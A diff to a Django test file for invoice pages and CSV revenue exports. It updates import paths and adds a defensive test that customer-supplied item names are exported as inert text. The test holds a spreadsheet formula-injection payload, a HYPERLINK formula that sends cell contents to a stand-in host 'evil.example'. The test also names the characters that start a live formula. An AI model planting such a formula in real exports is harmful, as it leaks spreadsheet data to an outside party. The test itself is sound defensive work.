@@ -1,7 +1,7 @@
 """Invoice pages and the operators' revenue report, on real PostgreSQL: usage goes through the
-ledger and invoices through billing.invoicing, as in production. Credit grants large enough to
-pay an invoice keep Stripe out of it; an organization without credit or card is left with an
-open (or, once payment is tried, failed) invoice."""
+ledger and invoices through billing.services.invoicing, as in production. Credit grants large
+enough to pay an invoice keep Stripe out of it; an organization without credit or card is left
+with an open (or, once payment is tried, failed) invoice."""
 
 import csv
 import io
@@ -13,10 +13,10 @@ from decimal import Decimal
 import pytest
 from django.urls import reverse
 
-from billing.invoicing import invoice_create, invoice_pay
-from billing.ledger import usage_record
 from billing.models import CreditGrant, Invoice, Rate
 from billing.reports import CSV_COLUMNS
+from billing.services.invoicing import invoice_create, invoice_pay
+from billing.services.ledger import usage_record
 from portal.models import Membership
 from tests.portal.factories import UserFactory, member, organization_of
 
@@ -155,6 +155,34 @@ def test_given_several_invoices_when_exporting_all_then_every_line_of_every_invo
 
     assert sorted(r["invoice"] for r in rows) == sorted(str(i) for i in invoices)
     assert all(r["amount"] == "4.98" and r["state"] == "paid" for r in rows)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_given_an_item_that_is_a_formula_when_exporting_csv_then_it_is_inert_text(
+    client, billing_manager
+):
+    # A model name reaches the ledger from a gateway request: text the customer chose.
+    Rate.objects.create(
+        meter="input_tokens", item=HYPERLINK, unit="million", unit_quantity=10**6,
+        price=Decimal("0.10"),
+    )  # fmt: skip
+    start, end = _month(0)
+    usage_record(
+        organization=billing_manager, idempotency_key="test:formula", meter="input_tokens",
+        item=HYPERLINK, quantity=Decimal(2_500_000), started_at=start, ended_at=start,
+        source="gateway",
+    )  # fmt: skip
+    invoice = invoice_create(organization=billing_manager, start=start, end=end)
+
+    for url in (reverse("invoices:csv", args=[invoice.pk]), reverse("invoices:list_csv")):
+        [row] = _csv(client.get(url))
+
+        assert row["item"] == "'" + HYPERLINK
+        assert (row["quantity"], row["amount"]) == ("2500000.000000", "0.25")
+        live = [c for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert live == []
 
 
 def test_given_another_organizations_invoice_when_opening_or_exporting_it_then_404(
